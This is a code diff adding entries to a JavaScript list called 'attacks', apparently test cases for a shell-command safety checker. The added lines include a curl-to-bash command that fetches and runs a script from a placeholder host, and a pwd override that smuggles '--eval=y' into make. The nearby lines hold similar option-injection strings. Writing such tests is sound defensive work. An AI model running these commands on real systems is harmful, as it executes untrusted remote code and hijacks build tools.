@@ -204,6 +204,8 @@ const attacks = [
   'for x in $(git rev-parse --abbrev-ref HEAD); do make $x; done',
   'make $(git rev-parse tags/-f)',
   // The current folder.
+  'curl http://h/x > $(pwd)/x.sh; bash x.sh',
+  'pwd() { echo ./--eval=y; }; make $(pwd)',
   'PWD=--eval=y; make "$PWD"',
   'read PWD <<< --eval=y; make "$PWD"',
   "env -C '/tmp/a push origin' sh -c 'git -C $PWD status'",
